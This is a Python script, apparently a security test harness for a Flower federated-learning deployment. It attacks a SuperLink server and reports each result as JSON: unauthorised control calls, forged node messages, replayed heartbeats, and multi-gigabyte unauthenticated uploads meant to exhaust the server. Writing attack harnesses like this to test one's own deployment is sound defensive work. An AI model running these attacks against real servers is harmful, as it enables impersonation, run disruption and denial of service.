"""What a stranger, or a node that was taken over, tries at a SuperLink: a line of JSON about each.

`python attacker.py HOST:PORT CA.PEM --key KNOWN.key --folder F` with the key of one node. Everything is
sent over the network, by Flower's own requests where there is one.
"""

import argparse
import json
import socket
import ssl
import sys
from pathlib import Path

import httpx
from flwr.app import Message, Metadata
from flwr.app.message import make_message
from flwr.common.constant import SUPERLINK_NODE_ID
from flwr.proto.control_pb2 import ListNodesRequest, StopRunRequest
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.supercore.control import ControlHttpClient

from stagewise.deploy.certificates import make_authority, make_node_key
from stagewise.deploy.flower_api import FleetNode
from stagewise.deploy.flower_api.requests import connected, deflated
from stagewise.deploy.messages import EdgeNote, pack

MB = 1024 * 1024


def outcome(act):
    """What came of it: `done`, a status, or the kind of error."""
    try:
        act()
    except httpx.HTTPStatusError as error:
        return f"{error.response.status_code}: {error.response.text.strip()}"
    except httpx.ConnectError as error:
        return "certificate" if "CERTIFICATE_VERIFY_FAILED" in str(error) else "no connection"
    except Exception as error:
        return type(error).__name__
    return "done"


def forged(node, source, reply_to):
    """A message pushed by `node` that says it is from `source`."""
    metadata = Metadata(
        run_id=1,
        message_id="",
        src_node_id=source,
        dst_node_id=SUPERLINK_NODE_ID if reply_to else 12345,
        reply_to_message_id=reply_to,
        group_id="",
        created_at=1.8e9,
        ttl=1e9,
        message_type="train",
    )
    message: Message = make_message(metadata=metadata, content=pack(EdgeNote()))
    _, trees, heads = deflated([message])
    request = PushMessagesRequest(node=node._node, messages_list=heads, message_object_trees=trees)
    node._client.PushMessages(request)


class Twice:
    """Sends each request a second time, with the very same headers."""

    def intercept(self, context, call_next):
        first = call_next(context)
        self.again = call_next(context)
        return first


def pour(address, authority, megabytes, chunked):
    """Send a body without a key, for as long as anybody reads it; how much was taken."""
    host, _, port = address.rpartition(":")
    context = ssl.create_default_context(cafile=authority)
    sent = 0
    length = "transfer-encoding: chunked" if chunked else f"content-length: {megabytes * MB}"
    head = f"POST /v1/fleet/push-object HTTP/1.1\r\nhost: {host}\r\n{length}\r\n\r\n"
    piece = b"x" * MB
    part = b"%x\r\n%s\r\n" % (MB, piece) if chunked else piece
    try:
        plain = socket.create_connection((host, int(port)), timeout=10)
        with context.wrap_socket(plain, server_hostname=host) as secure:
            secure.sendall(head.encode())
            while sent < megabytes:
                secure.sendall(part)
                sent += 1
    except OSError:
        pass
    return sent


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("authority", type=Path)
    parser.add_argument("--key", type=Path, required=True, help="of a node that is not connected")
    parser.add_argument("--folder", type=Path, required=True, help="for keys of its own")
    parser.add_argument("--megabytes", type=int, default=2048)
    given = parser.parse_args()
    place = given.address, given.authority.read_bytes()
    stranger = make_node_key(given.folder, "stranger").private.read_bytes()
    other = make_authority(given.folder / "other").public.read_bytes()
    known = given.key.read_bytes()

    def control(request, method):
        with connected(ControlHttpClient, place) as client:
            getattr(client, method)(request)

    node = FleetNode(*place, known)
    found = {
        "unknown key": outcome(FleetNode(*place, stranger).connect),
        "other authority": outcome(FleetNode(place[0], other, known).connect),
        "lists nodes": outcome(lambda: control(ListNodesRequest(), "ListNodes")),
        "stops a run": outcome(lambda: control(StopRunRequest(run_id=1), "StopRun")),
        "connects": outcome(node.connect),
        "answers as another": outcome(lambda: forged(node, 777, "a" * 64)),
        "sends an order": outcome(lambda: forged(node, SUPERLINK_NODE_ID, "")),
    }
    twice = Twice()
    node._beats._interceptors = (*node._beats._interceptors, twice)
    outcome(node.beat)
    found["replays"] = f"{twice.again.status_code}: {twice.again.text.strip()}"
    bodies = [pour(given.address, given.authority, given.megabytes // 8, i % 2) for i in range(8)]
    found["megabytes taken"] = sum(bodies)
    node.close()
    print(json.dumps(found))


if __name__ == "__main__":
    sys.exit(main())
